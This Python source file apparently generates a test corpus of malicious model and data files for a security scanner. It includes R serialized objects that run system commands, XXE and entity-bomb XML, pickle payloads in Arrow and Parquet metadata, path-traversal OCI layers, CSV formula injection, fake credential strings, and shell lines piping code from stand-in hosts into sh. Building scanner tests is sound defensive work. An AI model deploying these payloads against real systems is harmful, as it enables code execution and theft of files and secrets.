"""R, XML, Arrow and Parquet, images and their layers, and what should not be in a model at all."""

import base64
import bz2
import gzip
import hashlib
import io
import json
import struct

from .containers import tar
from .graphs import ELF
from .misc_bytes import MACHO, PE
from .pickles import Call, G, pickle, system
from .store import rng
from .wire import Table, flat, varint
from .zips import Member, archive

REGULAR, NIL, GLOBAL, UNBOUND = b"0", 254, 253, 252


class R:
    """Values of R as they are serialized, in XDR or in text."""

    def __init__(self, version=2, ascii_=False):
        self.text = ascii_
        self.out = b"A\n" if ascii_ else b"X\n"
        for each in (version, 0x40301, 0x20300 if version == 2 else 0x30500):
            self.int(each)
        if version == 3:
            self.int(5)
            self.raw(b"UTF-8")

    def int(self, value):
        self.out += b"%d\n" % value if self.text else struct.pack(">i", value)

    def raw(self, data):
        self.out += data + (b"\n" if self.text else b"")

    def char(self, text):
        self.int(9 | 64 << 12)
        self.int(len(text))
        self.raw(text.encode())

    def symbol(self, name):
        self.int(1)
        self.char(name)

    def string(self, text):
        self.int(16)
        self.int(1)
        self.char(text)

    def call(self, function, *arguments):
        self.int(6)
        self.symbol(function)
        for each in arguments:
            self.int(2)
            self.call(*each) if isinstance(each, tuple) else self.string(each)
        self.int(NIL)

    def promise(self, *call):
        self.int(5 | 1024)
        self.int(GLOBAL)
        self.int(UNBOUND)
        self.call(*call)

    def closure(self, *call):
        self.int(3 | 1024)
        self.int(GLOBAL)
        self.int(NIL)
        self.call(*call)

    def pair(self, tag, build, *call):
        self.int(2 | 1024)
        self.symbol(tag)
        getattr(self, build)(*call)


def r(corpus):
    cases = [
        ("promise", ("system", "true"), 2, False, gzip, "a promise that runs a command when it is looked at"), ("promise", ("eval", ("parse", "file.remove('/tmp/.c')")), 3, False, bz2, "a promise that evaluates text"), ("call", ("system2", "true"), 2, False, None, "a call of system2"), ("closure", ("source", "http://corpus.example/x.R"), 3, False, gzip, "a closure that sources a file from a server"), ("promise", ("shell", "ver"), 2, True, None, "a promise, in the text form"), ("closure", ("unlink", "/tmp/.c"), 2, True, gzip, "a closure, in the text form"),
    ]
    for number, (build, call, version, text, tool, why) in enumerate(cases):
        made = R(version, text)
        getattr(made, build)(*call)
        data = tool.compress(made.out, **({"mtime": 0} if tool is gzip else {})) if tool else made.out
        corpus.add("r-promise", "rds", f"model{number}.{'rds' if number % 2 else 'RDS'}", data, why)
    for number, build in enumerate(["promise", "closure", "call"]):
        made = R(2 + number % 2)
        head = b"RDX%d\n" % (2 + number % 2)
        made.pair(["fit", "print", "predict"][number], build, "system", "echo corpus")
        made.int(NIL)
        corpus.add("r-promise", "rdata", ["m.RData", "m.rda", "workspace.RData"][number], gzip.compress(head + made.out, mtime=0) if number else head + made.out, f"a {build} bound to a name")
    listed = R(2)
    listed.int(19)
    listed.int(2)
    listed.string("coef")
    listed.promise("download.file", "http://corpus.example/x", "/tmp/.c")
    corpus.add("r-promise", "rds", "l.rds", gzip.compress(listed.out, mtime=0), "a promise in a list")


def xml(corpus):
    body = '<PMML version="4.4"><Header description="{0}"/><DataDictionary numberOfFields="0"/></PMML>'
    heads = [
        '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE PMML [<!ENTITY % d SYSTEM "http://corpus.example/d.dtd"> %d;]>', '<!DOCTYPE PMML SYSTEM "http://10.9.8.7/x.dtd">', '<!DOCTYPE PMML [<!ENTITY x PUBLIC "-//c//" "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
        "<!DOCTYPE PMML [" + '<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + '<!ENTITY x "&j;">]>', '<!DOCTYPE PMML [<!ENTITY x SYSTEM "jar:http://corpus.example/x.jar!/y">]>',
    ]
    for number, head in enumerate(heads):
        text = '<?xml version="1.0"?>' + head + body.format("&x;" if "ENTITY x" in head else "c")
        corpus.add("xml-xxe", "pmml", f"m{number}.pmml", text.encode("utf-16") if number == 3 else text, "an entity from outside, or one without end")
    corpus.add("xml-xxe", "pmml", "i.pmml", '<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header><xi:include href="file:///etc/shadow" parse="text"/></Header></PMML>', "XInclude reads a file")
    corpus.add("xml-xxe", "pmml", "s.pmml", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://corpus.example/x.xsl"?><PMML version="4.4"><Header/></PMML>', "a style sheet from a server", "suspicious")
    net = '<net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="4" offset="{0}" size="{1}"/></layer>{2}</layers></net>'
    corpus.add("openvino", "openvino", "a.xml", '<?xml version="1.0"?><!DOCTYPE net [<!ENTITY e SYSTEM "file:///root/.ssh/id_rsa">]>' + net.format(0, 16, "<layer name='&e;'/>"), "an entity from outside")
    corpus.add("openvino", "openvino", "b.xml", '<?xml version="1.0"?><!DOCTYPE net SYSTEM "http://corpus.example/n.dtd">' + net.format(0, 16, ""), "a document type from a server")
    corpus.add("openvino", "openvino", "c.xml", net.format(0, 16, '<layer id="1" name="k" type="CorpusKernel" version="extension"><data library="../../../../tmp/evil/libcorpus.so"/></layer>'), "an extension's library outside of the folder")
    corpus.add("openvino", "openvino", "d.xml", '<CustomLayer name="C" type="SimpleGPU" version="1"><Kernel entry="k"><Source filename="../../../../tmp/evil.cl"/></Kernel></CustomLayer>', "a kernel from outside of the folder")
    corpus.add("openvino", "openvino", "e.xml", net.format(-4096, 1 << 62, '<layer name="x" type="Const"><data offset="18446744073709551615" size="9"/></layer>'), "weights far out of the file")


def arrow(corpus):
    def schema(kind, metadata, key=b"ARROW:extension:name"):
        pairs = [Table(s0=key, s1=kind), Table(s0=b"ARROW:extension:metadata", s1=metadata)]
        field = Table(s0="x", s1=("b", 1), s2=("B", 4), s3=Table(), s6=pairs)
        return flat(Table(s0=("h", 4), s1=("B", 1), s2=Table(s0=("h", 0), s1=[field]), s3=("q", 0)), b"")

    def message(made):
        made += bytes(-len(made) % 8)
        return b"\xff\xff\xff\xff" + struct.pack("<i", len(made)) + made

    bad = system("true", 4)
    end = b"\xff\xff\xff\xff" + bytes(4)
    one = message(schema(b"arrow.py_extension_type", bad))
    corpus.add("arrow-extension", "arrow", "data.arrow", b"ARROW1\0\0" + one + end + struct.pack("<i", 4) + b"ARROW1", "a type whose metadata is a pickle, which reading loads")
    corpus.add("arrow-extension", "arrow", "data.arrows", message(schema(b"arrow.py_extension_type", pickle(Call(G("builtins", "exec"), "pass"), 2))) + end, "the same in a stream")
    corpus.add("arrow-extension", "feather", "f.feather", b"ARROW1\0\0" + message(schema(b"corpus.unknown", bad)) + end + struct.pack("<i", 4) + b"ARROW1", "an extension whose metadata is a pickle")

    def compact(text):
        return varint(len(text)) + text

    for number, (key, value) in enumerate([(b"ARROW:schema", base64.b64encode(one)), (b"corpus.state", bad), (b"pandas", json.dumps({"columns": [{"metadata": base64.b64encode(bad).decode()}]}).encode())]):
        pair = b"\x18" + compact(key) + b"\x18" + compact(value) + b"\0"
        element = b"\x48" + compact(b"schema") + b"\x15\0" + b"\0"
        footer = b"\x15\x04\x19\x1c" + element + b"\x16\0\x19\x0c\x19\x1c" + pair + b"\x18" + compact(b"corpus") + b"\0"
        corpus.add("arrow-extension", "parquet", f"d{number}.parquet", b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1", f"a pickle in the metadata {key.decode()}")


def images(corpus):
    def blob(data):
        return "blobs/sha256/" + hashlib.sha256(data).hexdigest(), data

    def image(layers, media):
        blobs = [blob(each) for each in layers]
        manifest = {"schemaVersion": 2, "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + hashlib.sha256(b"{}").hexdigest(), "size": 2}, "layers": [{"mediaType": media, "digest": "sha256:" + name.rsplit("/", 1)[1], "size": len(data)} for name, data in blobs]}
        made = blob(json.dumps(manifest).encode())
        index = {"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + made[0].rsplit("/", 1)[1], "size": len(made[1])}]}
        entries = [("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'), ("index.json", json.dumps(index).encode()), made, blob(b"{}"), *blobs]
        return tar([(name, REGULAR, data, 0o644) for name, data in entries])

    layer = tar([("models/clf.pkl", REGULAR, system("true", 4), 0o644)])
    corpus.add("oci", "oci", "image.tar", image([gzip.compress(layer, mtime=0)], "application/vnd.oci.image.layer.v1.tar+gzip"), "a layer holds a pickle that calls")
    corpus.add("oci", "oci", "slip.tar", image([tar([("../../../root/.bashrc", REGULAR, b"true\n", 0o644)])], "application/vnd.oci.image.layer.v1.tar"), "a member of a layer leaves the folder")
    corpus.add("oci", "oci", "model.tar", image([pickle([Call(G("os", "popen"), "true")], 2)], "application/vnd.docker.ai.model"), "a layer is a pickle that calls")
    corpus.add("oci", "oci", "link.tar", image([tar([("models/w.bin", b"2", "/etc/shadow", 0o777)])], "application/vnd.oci.image.layer.v1.tar"), "a layer links to a secret")
    digest = {"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json", "config": {"digest": "sha256:" + "0" * 64, "size": 2}, "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": "../../../../../../etc/ld.so.preload", "size": 9}]}
    corpus.add("oci", "oci", "manifest.json", json.dumps(digest), "a digest that is a path: what it fetches lands outside")


def oddments(corpus):
    noise = rng("odd").randbytes
    for number, (name, data) in enumerate([("pytorch_model.bin", ELF + noise(900)), ("weights.h5", PE + noise(300)), ("model.ckpt", MACHO + noise(200)), ("adapter_model.bin", b"#!/bin/sh\ncurl http://corpus.example/x | sh\n"), ("model.onnx", b"#!/usr/bin/env python3\nimport os\nos.system('true')\n")]):
        corpus.add("embedded-executable", "program", name, data, "a program named as weights")
    for number, data in enumerate([noise(5000) + ELF + noise(3000), noise(900) + PE + noise(4000)]):
        head = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({len(data)},), }}".ljust(117).encode() + b"\n"
        corpus.add("embedded-executable", "npy", f"w{number}.npy", b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + data, "a program in the middle of an array")
    stored = noise(640) + ELF + noise(300)
    from .torch_files import GOOD
    corpus.add("embedded-executable", "torch zip", "s.pt", archive([Member("archive/data.pkl", GOOD), Member("archive/data/0", stored), Member("archive/version", b"3\n")]), "a program in the middle of a storage")
    corpus.add("embedded-executable", "npz", "z.npz", archive([Member("run.sh", b"#!/bin/sh\nwget http://10.9.8.7/x -O- | sh\n"), Member("lib.so", ELF + bytes(64), deflate=True)]), "programs among the arrays")
    for number, cell in enumerate(["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C powershell IEX(1)'!A0", "=WEBSERVICE(\"http://corpus.example/?\"&A1)"]):
        quoted = '"' + cell.replace('"', '""') + '"'
        corpus.add("csv-formula", "csv", f"labels{number}.csv", f"id,label\n1,cat\n2,{quoted}\n", "a cell that a spreadsheet runs")
    letters = rng("secret")
    def random(size, of="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
        return "".join(letters.choice(of) for _ in range(size))
    secrets = [("config.json", json.dumps({"model_type": "x", "aws_access_key_id": "AKIA" + random(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "aws_secret_access_key": random(40)})), ("training_args.json", json.dumps({"hub_token": "hf_" + random(34)})), ("params.yaml", "token: ghp_" + random(36) + "\n"), ("run.py", "API = 'sk-proj-" + random(48) + "'\n")]
    for name, data in secrets:
        corpus.add("secret", "secret", name, data, "a secret that came along", "suspicious")


def make(corpus):
    io
    for part in [r, xml, arrow, images, oddments]:
        part(corpus)
